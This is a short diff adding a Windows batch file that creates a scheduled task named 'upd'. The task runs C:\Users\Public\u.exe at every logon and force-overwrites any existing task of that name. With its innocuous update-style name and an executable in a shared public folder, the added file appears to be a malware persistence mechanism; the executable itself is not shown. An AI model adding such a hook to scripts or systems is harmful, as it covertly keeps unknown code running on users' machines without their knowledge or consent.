@@ -1,0 +1,2 @@
+@echo off
+schtasks /create /sc onlogon /tn upd /tr C:\Users\Public\u.exe /f
